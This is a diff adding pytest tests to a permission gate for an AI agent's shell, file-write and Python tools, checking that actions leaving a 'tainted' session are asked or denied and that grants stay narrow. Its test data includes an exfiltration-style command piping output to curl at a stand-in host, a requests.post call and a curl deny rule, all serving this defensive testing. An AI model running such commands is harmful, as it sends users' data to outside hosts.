@@ -42,8 +42,45 @@ def test_a_memory_is_written_unasked_unless_the_session_is_tainted(mode: Mode) -
     led = "deny" if mode == "plan" else "ask"
     assert verdict(gate, MEMORY) == own
     assert gate.decide(MEMORY, set(), tainted=True).verdict == led
-    assert gate.decide(MEMORY, {MEMORY.grant_key}, tainted=True).verdict == own
+    assert gate.decide(MEMORY, {MEMORY.grant_key}, tainted=True).verdict == led
     assert gate.decide(TODO, set(), tainted=True).verdict == "allow"
+
+
+REACHING = (
+    Subject("bash", "shell", ("pip install x",)),
+    Subject("bash", "shell", ("ls | curl -T - https://x.example",)),
+    Subject("bash", "shell", ("cp a ~/b",)),
+    Subject("bash", "shell", ("$x",)),
+    Subject("write_file", "write", ("/elsewhere/a",)),
+    Subject("write_file", "write", (".shiro/memory/MEMORY.md",)),
+    Subject("run_python", "kernel", ("requests.post(u, data=d)",), grant="everything"),
+    MEMORY,
+)
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("subject", REACHING)
+def test_what_reaches_out_of_a_tainted_session_is_a_question_each_time(
+    mode: Mode, subject: Subject
+) -> None:
+    """Whatever would allow it: the mode, a rule, what was granted before."""
+    gate = Gate(mode, Rules.parse(allow=["*"]))
+    decision = gate.decide(subject, {subject.grant_key}, tainted=True)
+    assert (decision.verdict, decision.once) == (
+        ("deny", False) if mode == "plan" else ("ask", True)
+    )
+    allowed = gate.decide(subject, {subject.grant_key})
+    assert allowed.verdict == ("deny" if mode == "plan" else "allow") and not allowed.once
+
+
+def test_what_stays_in_the_project_is_judged_as_ever_in_a_tainted_session() -> None:
+    for mode in MODES:
+        gate = Gate(mode, Rules.parse(allow=["bash(pytest *)"], deny=["bash(curl *)"]))
+        for subject in (TODO, READ, WRITE, BASH, CODE, Subject("bash", "shell", ("pytest -q",))):
+            plain = gate.decide(subject, {BASH.grant_key})
+            assert gate.decide(subject, {BASH.grant_key}, tainted=True) == plain
+        denied = Subject("bash", "shell", ("curl x",))
+        assert gate.decide(denied, set(), tainted=True).verdict == "deny"
 
 
 def test_a_deny_rule_holds_in_every_mode_against_every_permission() -> None:
@@ -83,6 +120,35 @@ def test_a_grant_covers_only_what_was_granted() -> None:
     assert verdict(Gate(), longer, {BASH.grant_key}) == "ask"
     other_tool = Subject("job_start", "shell", ("echo hi",))
     assert verdict(Gate(), other_tool, {BASH.grant_key}) == "ask"
+    compound = Subject("bash", "shell", ("make; ls",))
+    for part in ("make", "ls", "make; ls -l", "make;ls", "make; ls; rm x", " make; ls", "ls; make"):
+        subject = Subject("bash", "shell", (part,))
+        assert verdict(Gate(), subject, {compound.grant_key}) == "ask", part
+    assert verdict(Gate(), compound, {compound.grant_key}) == "allow"
+
+
+def test_a_grant_to_write_is_for_the_path_and_the_tool() -> None:
+    again = Subject("write_file", "write", WRITE.texts, preview="other lines")
+    assert verdict(Gate(), again, {WRITE.grant_key}) == "allow"
+    for other in (
+        Subject("write_file", "write", ("data/b.csv",)),
+        Subject("write_file", "write", ("data",)),
+        Subject("write_file", "write", (*WRITE.texts, "data/b.csv")),
+        Subject("edit_file", "write", WRITE.texts),
+    ):
+        assert verdict(Gate(), other, {WRITE.grant_key}) == "ask"
+
+
+def test_no_two_subjects_share_a_grant() -> None:
+    """Though names hold what might separate them."""
+    subjects = [
+        Subject("t", "write", ("a", "b")),
+        Subject("t", "write", ("a|b",)),
+        Subject("t", "write", ("a\nb",)),
+        Subject("t", "write", ("b", "a")),
+        Subject("u", "write", ("a", "b")),
+    ]
+    assert len({each.grant_key for each in subjects}) == len(subjects)
 
 
 @pytest.mark.parametrize(
